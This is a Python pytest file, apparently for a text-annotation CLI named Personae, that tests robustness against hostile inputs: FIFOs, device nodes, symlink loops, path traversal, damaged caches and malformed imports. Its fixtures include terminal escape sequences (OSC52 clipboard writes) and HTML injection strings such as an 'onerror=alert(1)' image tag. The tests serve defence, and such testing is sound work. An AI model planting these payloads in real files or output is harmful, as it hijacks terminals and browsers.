"""The hostile battery: bad files, special files, damaged caches and hostile imports.

Each row of ``CASES`` is one input or fault thrown at Personae and what a user
must see: nothing lost (the good inputs beside a bad one are still written,
old files are never half-replaced) and nothing let through (no terminal escape
reaches the terminal, no tag reaches an HTML page, no traceback). Inputs are
made by the test; devices and FIFOs are made in a temporary folder, never the
system's. Items refer to the report that found them (special files, escapes,
HTML injection, damaged cache entries, user lexicons, file names that are not
UTF-8, symlink loops, hostile imports, brat pairs, small ones, permissions).
"""

from __future__ import annotations

import contextlib
import errno
import json
import os
import socket
import stat
import sys
import threading
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import pytest

from tui.cli import main

GOOD = ("Lavrov a Budapest\n\n"
        "Il ministro degli Esteri russo Serghei Lavrov ha incontrato Marco Rubio a Budapest. "
        "Lavrov ha detto che Mosca è pronta, secondo Ria Novosti.\n")
OSC52 = "\x1b]52;c;aGVsbG8=\x07"
OSC0 = "\x1b]0;pwned\x07"
CLEAR = "\x1b[2J"
ESCAPES = OSC52 + OSC0 + CLEAR


@dataclass
class Ctx:
    tmp: Path
    model: Path
    capsys: pytest.CaptureFixture
    monkeypatch: pytest.MonkeyPatch

    def article(self, name: str = "good.txt", text: str = GOOD) -> Path:
        p = self.tmp / name
        p.write_text(text, encoding="utf-8")
        return p

    def run(self, *argv) -> tuple[int, str, str]:
        args = [os.fsdecode(a) if isinstance(a, bytes) else str(a) for a in argv]
        if args and args[0] in ("export", "people"):
            args += ["--model", str(self.model)]
        code = main(args)
        out, err = self.capsys.readouterr()
        return code, out, err


def one_line_errors(err: str, n: int | None = None) -> list[str]:
    lines = err.splitlines()
    assert "Traceback" not in err
    assert all(line.startswith("personae: ") for line in lines), err
    if n is not None:
        assert len(lines) == n, err
    return lines


def no_escapes(s: str) -> None:
    assert "\x1b" not in s and "\x07" not in s and "\x9b" not in s and "\x9d" not in s, repr(s)


def document(text: str = "Mario Rossi vive a Roma.", **over) -> dict:
    """A small personae/1 document; ``over`` replaces top-level keys or, with
    ``name=``/``label=``/``title=``/``gloss=``/``path=``, the fields of its parts."""
    s = text.index("Mario Rossi")
    r = text.index("Roma")
    name = over.pop("name", "Mario Rossi")
    label = over.pop("label", "PER")
    gloss = over.pop("gloss", "")
    doc = {
        "schema": "personae/1",
        "source": {"path": over.pop("path", "rossi.txt"), "sha256": "",
                   "title": over.pop("title", "Rossi")},
        "model": {"name": "x", "version": "1", "lang": "it"},
        "text": text,
        "mentions": [
            {"id": "m1", "start": s, "end": s + 11, "text": "Mario Rossi", "label": label,
             "entity": "e1"},
            {"id": "m2", "start": r, "end": r + 4, "text": "Roma", "label": "LOC", "entity": "e2"},
        ],
        "entities": [
            {"id": "e1", "label": label, "name": name, "variants": [name], "mentions": ["m1"],
             "roles": ([{"text": "vive", "start": s + 12, "end": s + 16, "mention": "m1",
                         "gloss": gloss, "sentence": [0, len(text)]}] if gloss else [])},
            {"id": "e2", "label": "LOC", "name": "Roma", "variants": ["Roma"],
             "mentions": ["m2"], "roles": []},
        ],
    }
    doc.update(over)
    return doc


def write_json(p: Path, obj) -> Path:
    p.write_text(json.dumps(obj, ensure_ascii=False), encoding="utf-8")
    return p


def in_thread(fn: Callable[[], object], unblock: Callable[[], None] | None = None):
    """Run ``fn``; if it is still blocked after a generous wait (a FIFO read by the old
    code), unblock it so the test run goes on, and fail."""
    box: dict = {}

    def target():
        try:
            box["value"] = fn()
        except BaseException as exc:  # noqa: BLE001 - handed back to the test
            box["error"] = exc

    t = threading.Thread(target=target, daemon=True)
    t.start()
    t.join(120)
    if t.is_alive():
        if unblock is not None:
            unblock()
        t.join(10)
        pytest.fail("blocked on a special file")
    if "error" in box:
        raise box["error"]
    return box["value"]


def feed_fifo_eof(fifo: Path) -> Callable[[], None]:
    """Release whoever waits on the FIFO: a reader gets end of file, a writer a reader."""
    def unblock():
        try:
            fd = os.open(fifo, os.O_WRONLY | os.O_NONBLOCK)
        except OSError:  # nobody reads: someone writes
            fd = os.open(fifo, os.O_RDONLY | os.O_NONBLOCK)
        os.close(fd)
    return unblock


def drain_fifo(fifo: Path) -> tuple[threading.Thread, dict]:
    """A reader on the FIFO, as `cat FIFO` would be."""
    got: dict = {}

    def reader():
        with open(fifo, "rb") as fh:
            got["data"] = fh.read()
    t = threading.Thread(target=reader, daemon=True)
    t.start()
    return t, got


def mknod_or_skip(path: Path, major: int, minor: int) -> Path:
    try:
        os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(major, minor))
    except (PermissionError, OSError) as exc:
        pytest.skip(f"cannot make a device node here: {exc}")
    return path


# == 1. writing onto a special file =====================================================

def case_fifo_output_is_written_into_not_replaced(c: Ctx):
    fifo = c.tmp / "out.json"
    os.mkfifo(fifo)
    t, got = drain_fifo(fifo)
    code, _out, err = c.run("export", c.article(), "--format", "json", "-o", fifo)
    t.join(60)
    assert code == 0, err
    assert stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert json.loads(got["data"])["schema"] == "personae/1"


def case_device_output_stays_a_device(c: Ctx):
    null = mknod_or_skip(c.tmp / "null", 1, 3)
    code, _out, err = c.run("export", c.article(), "--format", "json", "-o", null)
    assert code == 0, err
    assert stat.S_ISCHR(os.lstat(null).st_mode)


def case_stdout_style_symlink_stays_a_symlink(c: Ctx):
    fifo = c.tmp / "pipe"
    os.mkfifo(fifo)
    link = c.tmp / "stdout"
    link.symlink_to(fifo)
    t, got = drain_fifo(fifo)
    code, _out, err = c.run("export", c.article(), "--format", "csv", "-o", link)
    t.join(60)
    assert code == 0, err
    assert link.is_symlink() and stat.S_ISFIFO(os.lstat(fifo).st_mode)
    assert b"Serghei Lavrov" in got["data"]


def case_symlink_to_a_file_keeps_the_link(c: Ctx):
    real = c.tmp / "real.json"
    real.write_text("old", encoding="utf-8")
    link = c.tmp / "link.json"
    link.symlink_to(real)
    code, _out, err = c.run("export", c.article(), "--format", "json", "-o", link, "--force")
    assert code == 0, err
    assert link.is_symlink()
    assert json.loads(real.read_text(encoding="utf-8"))["schema"] == "personae/1"


def case_descriptor_link_writes_into_the_open_file(c: Ctx):
    out = c.tmp / "redirected.json"  # `personae export … -o /dev/stdout > redirected.json`
    with open(out, "wb") as fh:
        link = c.tmp / "stdout"
        link.symlink_to(f"/proc/self/fd/{fh.fileno()}")
        code, _out, err = c.run("export", c.article(), "--format", "json", "-o", link)
    assert code == 0, err
    assert link.is_symlink()
    assert json.loads(out.read_text(encoding="utf-8"))["schema"] == "personae/1"


def case_folder_is_refused_by_the_writer(c: Ctx):
    from tui.fsutil import atomic_write_text

    d = c.tmp / "folder"
    d.mkdir()
    with pytest.raises(IsADirectoryError):
        atomic_write_text(d, "x")
    assert d.is_dir() and not list(d.iterdir())


# == 11 (issue 15). permissions of what is written ======================================

def case_new_export_respects_the_umask(c: Ctx):
    old = os.umask(0o022)
    try:
        out = c.tmp / "out.json"
        code, _out, err = c.run("export", c.article(), "--format", "json", "-o", out)
    finally:
        os.umask(old)
    assert code == 0, err
    assert stat.S_IMODE(out.stat().st_mode) == 0o644


def case_replaced_export_keeps_its_mode(c: Ctx):
    out = c.tmp / "out.html"
    out.write_text("old", encoding="utf-8")
    out.chmod(0o640)
    code, _out, err = c.run("export", c.article(), "--format", "html", "-o", out, "--force")
    assert code == 0, err
    assert stat.S_IMODE(out.stat().st_mode) == 0o640
    assert "Serghei Lavrov" in out.read_text(encoding="utf-8")


# == 2. terminal escapes from imported files ============================================

def case_escapes_in_imported_names_do_not_reach_stdout(c: Ctx):
    src = write_json(c.tmp / "evil.json",
                     document(f"Mario Rossi vive a Roma.{OSC52}", name=f"Mario{ESCAPES} Rossi",
                              title=f"T{OSC0}"))
    for fmt in ("csv", "conll", "jsonl", "json", "html"):
        code, out, err = c.run("import", src, "--format", fmt, "-o", "-")
        assert code == 0, err
        no_escapes(out)
        no_escapes(err)
        assert "aGVsbG8" not in out and "pwned" not in out  # nor their payload
    code, out, err = c.run("import", src, "--format", "csv", "-o", "-")
    assert "Mario Rossi" in out


def case_escapes_in_a_brat_gloss_are_removed(c: Ctx):
    from tui.export import read_any

    (c.tmp / "a.txt").write_text("Il sindaco Mario Rossi parla.", encoding="utf-8")
    (c.tmp / "a.ann").write_text(
        "T1\tPER 11 22\tMario Rossi\nT2\tRole 3 10\tsindaco\nR1\tRole_of Arg1:T2 Arg2:T1\n"
        f"#1\tAnnotatorNotes T2\tmayor{OSC52}{CLEAR}\n", encoding="utf-8")
    [ann] = read_any(c.tmp / "a.ann")
    [role] = [r for e in ann.entities for r in e.roles]
    assert role.gloss == "mayor"


def case_escapes_in_a_file_name_are_shown_escaped_on_stderr(c: Ctx):
    code, _out, err = c.run("export", c.tmp / f"a{CLEAR}{OSC0}.txt", "--format", "json",
                            "-o", c.tmp / "o.json")
    assert code == 1
    no_escapes(err)
    assert "\\x1b[2J" in err
    one_line_errors(err, 1)


def case_escapes_in_the_reason_are_shown_escaped(c: Ctx):
    src = write_json(c.tmp / "evil.json", {"schema": f"nope{OSC52}"})
    code, _out, err = c.run("import", src, "--format", "csv", "-o", "-")
    assert code == 1
    no_escapes(err)


def case_could_not_open_notice_shows_the_name_escaped(c: Ctx):
    from tui.app.main import open_paths

    bad = c.tmp / f"b{OSC52}.txt"
    bad.write_bytes(bytes(range(256)) * 4)
    opened = open_paths([bad, c.article()])
    assert len(opened.articles) == 1 and len(opened.errors) == 1
    no_escapes(opened.errors[0])


# == 3. HTML injection ==================================================================

def case_label_with_a_tag_gives_no_live_tag_in_html(c: Ctx):
    src = write_json(c.tmp / "evil.json", document(label="<img src=x onerror=alert(1)>"))
    code, _out, err = c.run("import", src, "-o", c.tmp / "x.html")
    assert code == 0, err
    page = (c.tmp / "x.html").read_text(encoding="utf-8")
    assert "<img" not in page and "onerror=alert(1)>" not in page
    assert "Mario Rossi" in page


def case_brat_script_label_gives_no_script_in_html(c: Ctx):
    (c.tmp / "b.txt").write_text("Mario Rossi vive a Roma.", encoding="utf-8")
    (c.tmp / "b.ann").write_text("T1\t<script> 0 11\tMario Rossi\n", encoding="utf-8")
    code, _out, err = c.run("import", c.tmp / "b.ann", "-o", c.tmp / "b.html")
    assert code == 0, err
    page = (c.tmp / "b.html").read_text(encoding="utf-8").lower()
    assert "<script" not in page


def case_names_titles_and_glosses_are_escaped_in_html(c: Ctx):
    src = write_json(c.tmp / "evil.json",
                     document(name="<b>Mario</b> Rossi", title="<script>x</script>",
                              gloss="<iframe src=x>"))
    code, _out, err = c.run("import", src, "-o", c.tmp / "e.html")
    assert code == 0, err
    page = (c.tmp / "e.html").read_text(encoding="utf-8").lower()
    assert "<script>x" not in page and "<iframe" not in page and "<b>mario" not in page


# == 5. damaged cache entries ===========================================================

def _entry(c: Ctx, article: Path):
    """The cache entry the tiny pipeline's analysis of ``article`` goes to (after one run)."""
    code, _o, err = c.run("export", article, "--format", "json", "-o", c.tmp / "first.json")
    assert code == 0, err
    [entry] = list((Path(os.environ["PERSONAE_CACHE_DIR"]) / "analyses").glob("*.json"))
    return entry


CACHE_DAMAGE = {
    "huge offset": lambda d: d["annotations"]["mentions"][0].update(start=10 ** 400),
    "offset as float": lambda d: d["annotations"]["mentions"][0].update(start=1.5),
    "offset negative": lambda d: d["annotations"]["mentions"][0].update(start=-3),
    "mention not a dict": lambda d: d["annotations"]["mentions"].__setitem__(0, 7),
    "mentions a dict": lambda d: d["annotations"].update(mentions={}),
    "label a list": lambda d: d["annotations"]["mentions"][0].update(label=["PER"]),
    "entity without mentions key": lambda d: d["annotations"]["entities"][0].pop("mentions"),
    "role without start": lambda d: d["annotations"]["entities"][0].update(
        roles=[{"text": "x", "end": 3, "mention": "m1"}]),
    "tokens of three": lambda d: d["annotations"].update(tokens=[[0, 1, 2]]),
    "model a string": lambda d: d["annotations"].update(model="it"),
}


def damaged_cache_entry(name: str) -> Callable[[Ctx], None]:
    def case(c: Ctx):
        article = c.article()
        entry = _entry(c, article)
        good = json.loads(entry.read_text(encoding="utf-8"))
        d = json.loads(json.dumps(good))
        CACHE_DAMAGE[name](d)
        text = json.dumps(d)
        if name == "huge offset":
            text = text.replace("1" + "0" * 400, "1e999")
        entry.write_text(text, encoding="utf-8")
        code, _o, err = c.run("export", article, "--format", "json", "-o", c.tmp / "o.json",
                              "--force")
        assert code == 0, err
        assert json.loads(entry.read_text(encoding="utf-8")) == good, "not rebuilt"
    case.__name__ = "case_damaged_cache_entry_is_rebuilt-" + name.replace(" ", "_")
    return case


def case_cache_entry_that_is_a_fifo_is_a_miss(c: Ctx):
    article = c.article()
    entry = _entry(c, article)
    entry.unlink()
    fifo = c.tmp / "fifo"
    os.mkfifo(fifo)
    entry.symlink_to(fifo)
    code, _o, err = in_thread(lambda: c.run("export", article, "--format", "json", "-o",
                                            c.tmp / "o.json", "--force"), feed_fifo_eof(fifo))
    assert code == 0, err


def case_cache_entry_that_is_a_zero_device_is_a_miss(c: Ctx):
    from tui.store import cache

    article = c.article()
    entry = _entry(c, article)
    entry.unlink()
    entry.symlink_to(mknod_or_skip(c.tmp / "zero", 1, 5))
    # refused without reading: the old code read it until the memory ran out
    key = cache.Key("it_tiny", "0.0.1")
    assert cache.load(GOOD, key) is None
    code, _o, err = c.run("export", article, "--format", "json", "-o", c.tmp / "o.json", "--force")
    assert code == 0, err


def case_settings_and_people_decisions_that_are_fifos_are_skipped(c: Ctx):
    from tui.app import settings
    from tui.store import people_links

    config = c.tmp / "config"
    config.mkdir()
    c.monkeypatch.setenv("PERSONAE_CONFIG_DIR", str(config))
    os.mkfifo(settings.path())
    people = people_links.path()
    people.parent.mkdir(parents=True)
    os.mkfifo(people)
    assert in_thread(settings.load, feed_fifo_eof(settings.path())) == {}
    assert in_thread(people_links.load_ops, feed_fifo_eof(people)) == []
    assert in_thread(people_links.digest, feed_fifo_eof(people)) == ""


# == 6. user lexicons ===================================================================

def _fresh_lexicon(c: Ctx, config: Path):
    from tui import provenance
    from tui.nlp import lexicon

    c.monkeypatch.setenv("PERSONAE_CONFIG_DIR", str(config))
    lexicon.reload_lexicon()
    provenance.analysis_fingerprint.cache_clear()
    c.monkeypatch.setattr(lexicon, "_PROBLEMS", [])
    return lexicon


def _reset_lexicon():
    from tui import provenance
    from tui.nlp import lexicon

    lexicon.reload_lexicon()
    provenance.analysis_fingerprint.cache_clear()


def case_latin1_user_lexicon_is_read_and_reported(c: Ctx):
    config = c.tmp / "config"
    config.mkdir()
    (config / "roles_it.tsv").write_bytes("podest\xe0\tmayor\n".encode("latin-1"))
    lexicon = _fresh_lexicon(c, config)
    try:
        code, _o, err = c.run("export", c.article(), "--format", "json", "-o", c.tmp / "o.json")
        assert code == 0, err
        assert "roles_it.tsv: not UTF-8, read as" in err  # said, with the file's name
        assert any("roles_it.tsv" in p for p in lexicon.problems())
        rows = list(lexicon.read_tsv(config / "roles_it.tsv"))
        assert rows == [["podestà", "mayor"]]
    finally:
        _reset_lexicon()


def case_bad_line_in_a_user_lexicon_is_skipped_with_its_number(c: Ctx):
    config = c.tmp / "config"
    config.mkdir()
    (config / "places_it.tsv").write_text(f"Lerici\tof Lerici\n\x00bad{CLEAR}\tx\nSarzana\t\n",
                                          encoding="utf-8")
    lexicon = _fresh_lexicon(c, config)
    try:
        rows = list(lexicon.read_tsv(config / "places_it.tsv"))
        assert [r[0] for r in rows] == ["Lerici", "Sarzana"]
        assert any("places_it.tsv line 2" in p for p in lexicon.problems())
    finally:
        _reset_lexicon()


def case_fifo_in_the_config_folder_does_not_hang(c: Ctx):
    config = c.tmp / "config"
    config.mkdir()
    fifo = config / "roles_it.tsv"
    os.mkfifo(fifo)
    _fresh_lexicon(c, config)
    try:
        code, _o, err = in_thread(lambda: c.run("export", c.article(), "--format", "json", "-o",
                                                c.tmp / "o.json"), feed_fifo_eof(fifo))
        assert code == 0, err
    finally:
        _reset_lexicon()


# == 7. file names that are not UTF-8 ===================================================

def case_non_utf8_file_name_works_in_every_format(c: Ctx):
    from tui.export import FORMATS

    name = os.fsdecode(b"uniq\xe9.txt")
    c.article(name)
    for fmt in FORMATS:
        out = c.tmp / f"out-{fmt}"
        code, _o, err = c.run("export", c.tmp / name, "--format", fmt, "-o", out)
        assert code == 0, f"{fmt}: {err}"
    data = json.loads((c.tmp / "out-json").read_text(encoding="utf-8"))
    assert data["source"]["path"].endswith("uniq\\xe9.txt")


def case_non_utf8_file_name_is_shown_escaped(c: Ctx):
    name = os.fsdecode(b"uniq\xe9\xff.txt")
    code, _o, err = c.run("export", c.tmp / name, "--format", "json", "-o", c.tmp / "o.json")
    assert code == 1
    assert "uniq\\xe9\\xff.txt" in err
    err.encode("utf-8")  # printable as it is
    one_line_errors(err, 1)


# == 8. symlink loops ===================================================================

def case_symlink_loop_input_does_not_stop_the_good_one(c: Ctx):
    loop = c.tmp / "loop.txt"
    loop.symlink_to(loop)
    good = c.article()
    outdir = c.tmp / "out"
    code, _o, err = c.run("export", loop, good, "--format", "json", "-o", outdir)
    assert code == 1
    one_line_errors(err, 1)
    assert (outdir / "good.json").is_file()


def case_symlink_loop_as_output_is_one_line(c: Ctx):
    loop = c.tmp / "loop.json"
    loop.symlink_to(loop)
    code, _o, err = c.run("export", c.article(), "--format", "json", "-o", loop)
    assert code in (1, 2)
    one_line_errors(err, 1)


# == 9. hostile imports =================================================================

def _nested(depth: int) -> str:
    return '{"schema": "personae/1", "x": ' + "[" * depth + "]" * depth + "}"


IMPORT_DAMAGE = {
    "nested 100,000 deep": lambda p: p.write_text(_nested(100_000), encoding="utf-8"),
    "start 1e999": lambda p: p.write_text(
        json.dumps(document()).replace('"start": 0', '"start": 1e999'), encoding="utf-8"),
    "start NaN": lambda p: p.write_text(
        json.dumps(document()).replace('"start": 0', '"start": NaN'), encoding="utf-8"),
    "path a number": lambda p: write_json(p, document(path=7)),
    "path a list": lambda p: write_json(p, document(path=["a", "b"])),
    "mentions a string": lambda p: write_json(p, document(mentions="m1")),
    "text a number": lambda p: write_json(p, {**document(), "text": 5}),
    "role sentence of one": lambda p: write_json(p, _role_sentence_of_one()),
}


def _role_sentence_of_one() -> dict:
    d = document(gloss="lives")
    d["entities"][0]["roles"][0]["sentence"] = [0]
    return d


def hostile_json_import(name: str) -> Callable[[Ctx], None]:
    def case(c: Ctx):
        src = c.tmp / "bad.json"
        IMPORT_DAMAGE[name](src)
        code, _o, err = c.run("import", src, "-o", c.tmp / "out.csv")
        assert code == 1, f"{code} {err}"
        one_line_errors(err, 1)
        assert not (c.tmp / "out.csv").exists()
    case.__name__ = "case_hostile_json_import_is_one_line-" + name.replace(" ", "_")
    return case


def case_hostile_jsonl_lines_give_one_line_each(c: Ctx):
    src = c.tmp / "bad.jsonl"
    good = {"text": "Mario Rossi vive a Roma.", "spans": [{"start": 0, "end": 11, "label": "PER"}]}
    lines = [json.dumps(good),
             json.dumps({"text": "abc", "spans": [{"start": 1e308 * 10, "end": 2, "label": "X"}]})
             .replace("Infinity", "1e999"),
             json.dumps({"text": "abc", "spans": [{"start": "0", "end": 2, "label": "X"}]}),
             json.dumps({"text": "abc", "personae": {"entities": "x"}}),
             json.dumps({"text": "abc", "tokens": [{"start": 1e20}]})]
    src.write_text("\n".join(lines) + "\n", encoding="utf-8")
    code, out, err = c.run("import", src, "--format", "jsonl", "-o", "-")
    assert code == 1
    assert len(one_line_errors(err)) == 3, err
    assert out.count("\n") == 2  # the good line and the one whose bad tokens are ignored


def case_nul_in_source_path_is_no_traceback(c: Ctx):
    src = write_json(c.tmp / "nul.json", [document(path="a\x00b.txt"), document(path="ok.txt")])
    outdir = c.tmp / "conv"
    code, _o, err = c.run("import", src, "--format", "json", "-o", outdir)
    assert code == 0, err
    assert (outdir / "ok.json").is_file() and len(list(outdir.iterdir())) == 2


def case_one_bad_article_does_not_stop_the_good_one(c: Ctx):
    src = write_json(c.tmp / "two.json", [document(path=["bad"]), document(path="good.txt")])
    outdir = c.tmp / "conv"
    code, _o, err = c.run("import", src, "--format", "json", "-o", outdir)
    assert code == 1
    [line] = one_line_errors(err, 1)
    assert "article 1" in line
    assert (outdir / "good.json").is_file()


def case_path_traversal_stays_in_the_output_folder(c: Ctx):
    src = write_json(c.tmp / "two.json", [document(path="../../escape.txt"),
                                          document(path="/etc/x.txt")])
    outdir = c.tmp / "conv" / "deep"
    code, _o, err = c.run("import", src, "--format", "json", "-o", outdir)
    assert code == 0, err
    assert not (c.tmp / "escape.json").exists()
    assert sorted(p.name for p in outdir.iterdir()) == ["escape.json", "x.json"]


def case_fifo_given_to_import_does_not_hang(c: Ctx):
    fifo = c.tmp / "in.json"
    os.mkfifo(fifo)
    code, _o, err = in_thread(lambda: c.run("import", fifo, "-o", c.tmp / "o.csv"),
                              feed_fifo_eof(fifo))
    assert code == 1
    one_line_errors(err, 1)


# == 10. brat pairs =====================================================================

def case_brat_pair_survives_a_full_disk(c: Ctx):
    out = c.tmp / "pair.ann"
    code, _o, err = c.run("export", c.article(), "--format", "brat", "-o", out)
    assert code == 0, err
    before = {p.name: p.read_bytes() for p in c.tmp.glob("pair.*")}
    other = c.article("other.txt", "Marco Rubio ha parlato con Trump a Washington.\n")
    real_fsync = os.fsync

    def fsync(fd):  # the disk is full when the .ann is written (after the .txt)
        if ".pair.ann." in os.readlink(f"/proc/self/fd/{fd}"):
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_fsync(fd)

    c.monkeypatch.setattr(os, "fsync", fsync)
    code, _o, err = c.run("export", other, "--format", "brat", "-o", out, "--force")
    c.monkeypatch.setattr(os, "fsync", real_fsync)
    assert code == 1
    one_line_errors(err, 1)
    assert {p.name: p.read_bytes() for p in c.tmp.glob("pair.*")} == before
    assert not [p for p in c.tmp.iterdir() if p.name.endswith(".tmp")]


def _dead_pid() -> int:
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    return pid


def case_temporary_file_of_a_killed_write_is_removed(c: Ctx):
    stale = c.tmp / f".pair.ann.{_dead_pid()}.personae-k1ll.tmp"  # SIGKILL mid-write left it
    stale.write_bytes(b"")
    alive = c.tmp / f".pair.ann.{os.getpid()}.personae-l1ve.tmp"  # a write still running
    alive.write_bytes(b"")
    code, _o, err = c.run("export", c.article(), "--format", "brat", "-o", c.tmp / "pair.ann")
    assert code == 0, err
    assert not stale.exists() and alive.exists()


def case_mismatched_brat_pair_is_refused(c: Ctx):
    out = c.tmp / "pair.ann"
    code, _o, err = c.run("export", c.article(), "--format", "brat", "-o", out)
    assert code == 0, err
    text = (c.tmp / "pair.txt").read_text(encoding="utf-8")
    (c.tmp / "pair.txt").write_text(text[::-1], encoding="utf-8")  # same length, other text
    code, _o, err = c.run("import", out, "--format", "json", "-o", "-")
    assert code == 1
    [line] = one_line_errors(err, 1)
    assert "does not belong" in line


# == 13. smaller ones ===================================================================

def case_ctrl_c_is_one_line_and_130(c: Ctx):
    import tui.sources as sources

    def interrupted(_path):
        raise KeyboardInterrupt

    c.monkeypatch.setattr(sources, "load_article", interrupted)
    try:
        code, _o, err = c.run("export", c.article(), "--format", "json", "-o", c.tmp / "o.json")
    except KeyboardInterrupt:
        pytest.fail("ctrl-c escaped as a KeyboardInterrupt traceback")
    assert code == 130
    assert one_line_errors(err, 1) == ["personae: interrupted"]


def case_empty_output_name_is_bad_usage(c: Ctx):
    c.monkeypatch.chdir(c.tmp)
    code, _o, err = c.run("export", c.article(), "--format", "json", "-o", "")
    assert code == 2
    one_line_errors(err, 1)
    assert not (c.tmp / "good.json").exists()
    src = write_json(c.tmp / "d.json", document())
    code, _o, err = c.run("import", src, "-o", "", "--format", "csv")
    assert code == 2


def _drop_file_privileges() -> None:
    """In a child process run by root: give up the capabilities that bypass file
    permissions (CAP_DAC_OVERRIDE, CAP_DAC_READ_SEARCH, CAP_FOWNER), so the permission
    bits apply as they do to any user, while the interpreter's own files stay readable."""
    import ctypes

    class Header(ctypes.Structure):
        _fields_ = [("version", ctypes.c_uint32), ("pid", ctypes.c_int)]

    class Data(ctypes.Structure):
        _fields_ = [("effective", ctypes.c_uint32), ("permitted", ctypes.c_uint32),
                    ("inheritable", ctypes.c_uint32)]

    libc = ctypes.CDLL(None, use_errno=True)
    header = Header(0x20080522, 0)  # _LINUX_CAPABILITY_VERSION_3
    data = (Data * 2)()
    if libc.capget(ctypes.byref(header), data) != 0:
        raise OSError(ctypes.get_errno(), "capget")
    keep = ~((1 << 1) | (1 << 2) | (1 << 3)) & 0xFFFFFFFF
    data[0].effective &= keep
    data[0].permitted &= keep
    if libc.capset(ctypes.byref(header), data) != 0:
        raise OSError(ctypes.get_errno(), "capset")


def as_unprivileged(argv: list[str]) -> tuple[int, str]:
    """Run the command line in a child process without the privileges that let root
    read and write anything: (exit status, stderr). Skips where they cannot be dropped."""
    r, w = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(r)
        code = 99
        try:
            sys.stderr = os.fdopen(w, "w")
            if os.getuid() == 0:
                try:
                    _drop_file_privileges()
                except (OSError, AttributeError):
                    code = 77
                    raise
            code = main(argv)
        except BaseException:  # noqa: BLE001 - reported to the parent through the pipe
            import traceback

            traceback.print_exc()
        finally:
            sys.stderr.flush()
            os._exit(code)
    os.close(w)
    with os.fdopen(r) as fh:
        err = fh.read()
    _pid, status = os.waitpid(pid, 0)
    code = os.waitstatus_to_exitcode(status)
    if code == 77:
        pytest.skip("cannot give up root's file privileges here")
    return code, err


def case_folder_without_search_permission_says_permission_denied(c: Ctx):
    base = c.tmp
    folder = base / "articles"
    folder.mkdir()
    (folder / "a.txt").write_text(GOOD, encoding="utf-8")
    folder.chmod(0o644)  # readable, not searchable
    code, err = as_unprivileged(["export", str(folder), "--format", "json", "-o", str(base / "o")])
    folder.chmod(0o755)
    assert code == 1, err
    [line] = one_line_errors(err, 1)
    assert "permission denied" in line


def case_newline_in_a_file_name_stays_on_one_line(c: Ctx):
    code, _o, err = c.run("export", c.tmp / "a\nb.txt", "--format", "json", "-o", c.tmp / "o.json")
    assert code == 1
    [line] = one_line_errors(err, 1)
    assert "a\\nb.txt" in line


def case_brat_label_with_a_newline_reads_back(c: Ctx):
    src = write_json(c.tmp / "nl.json", document(label="PER\nSON"))
    code, _o, err = c.run("import", src, "-o", c.tmp / "nl.ann")
    assert code == 0, err
    code, out, err = c.run("import", c.tmp / "nl.ann", "--format", "csv", "-o", "-")
    assert code == 0, err
    assert "PER_SON" in out


# == 14 (issue 15). converting to brat beside the input ================================

def case_import_jsonl_to_ann_beside_it(c: Ctx):
    src = c.tmp / "frag.jsonl"
    src.write_text(json.dumps({"text": "Mario Rossi vive a Roma.",
                               "spans": [{"start": 0, "end": 11, "label": "PER"}]}) + "\n",
                   encoding="utf-8")
    code, _o, err = c.run("import", src, "-o", c.tmp / "frag.ann")
    assert code == 0, err
    assert (c.tmp / "frag.ann").read_text(encoding="utf-8").startswith("T1\tPER 0 11")
    assert (c.tmp / "frag.txt").is_file()


def case_brat_import_still_refuses_to_overwrite_its_own_txt(c: Ctx):
    (c.tmp / "b.txt").write_text("Mario Rossi vive a Roma.", encoding="utf-8")
    (c.tmp / "b.ann").write_text("T1\tPER 0 11\tMario Rossi\n", encoding="utf-8")
    code, _o, err = c.run("import", c.tmp / "b.ann", "-o", c.tmp / "b.ann", "--force")
    assert code == 2
    assert "would overwrite an input file" in err


# == what held: kept so it keeps holding ================================================

def case_binary_input_is_one_line(c: Ctx):
    p = c.tmp / "img.txt"
    p.write_bytes(bytes(range(256)) * 16)
    code, _o, err = c.run("export", p, c.article(), "--format", "json", "-o", c.tmp / "out")
    assert code == 1
    one_line_errors(err, 1)
    assert (c.tmp / "out" / "good.json").is_file()


def case_escapes_inside_an_article_are_removed(c: Ctx):
    p = c.article("esc.txt", f"Serghei Lavrov{OSC52} a Budapest.{CLEAR}\n")
    code, out, err = c.run("export", p, "--format", "csv", "-o", "-")
    assert code == 0, err
    no_escapes(out)
    assert "Serghei Lavrov" in out


def case_read_only_output_folder_is_one_line(c: Ctx):
    ro = c.tmp / "ro"
    ro.mkdir()
    ro.chmod(0o555)
    code, err = as_unprivileged(["export", str(c.article()), "--format", "json",
                                 "-o", str(ro / "o.json"), "--model", str(c.model)])
    ro.chmod(0o755)
    assert code == 1, err
    [line] = one_line_errors(err, 1)
    assert "permission denied" in line


def case_full_disk_leaves_the_old_export(c: Ctx):
    out = c.tmp / "o.json"
    out.write_text("old", encoding="utf-8")
    real_fsync = os.fsync

    def fsync(fd):
        if ".o.json." in os.readlink(f"/proc/self/fd/{fd}"):
            raise OSError(errno.ENOSPC, "No space left on device")
        return real_fsync(fd)

    c.monkeypatch.setattr(os, "fsync", fsync)
    code, _o, err = c.run("export", c.article(), "--format", "json", "-o", out, "--force")
    c.monkeypatch.setattr(os, "fsync", real_fsync)
    assert code == 1
    [line] = one_line_errors(err, 1)
    assert "No space left on device" in line
    assert out.read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in c.tmp.iterdir() if p.name.startswith(".")) == []


def case_legacy_encoded_article_is_read(c: Ctx):
    p = c.tmp / "latin1.txt"
    p.write_bytes("Serghei Lavrov è a Budapest, città della crisi.\n".encode("latin-1"))
    code, out, err = c.run("export", p, "--format", "json", "-o", "-")
    assert code == 0, err
    assert "città" in json.loads(out)["text"]


# == issue 27: round three ==============================================================
# Each class of the report is a group of rows (item "27.N"); the helpers come first.

def csv_cells(out: str) -> list[list[str]]:
    import csv
    import io

    return list(csv.reader(io.StringIO(out)))


# -- 27.1, 27.2 and 27.3 the library index: damaged, locked, unwritable ----------------------

OTHER = "Marco Rubio ha parlato con Trump a Washington. Rubio ha detto che Lavrov sbaglia.\n"


def _people(c: Ctx, *extra) -> tuple[int, list[str], str]:
    """``personae people`` of the two articles: (exit status, the names listed, stderr)."""
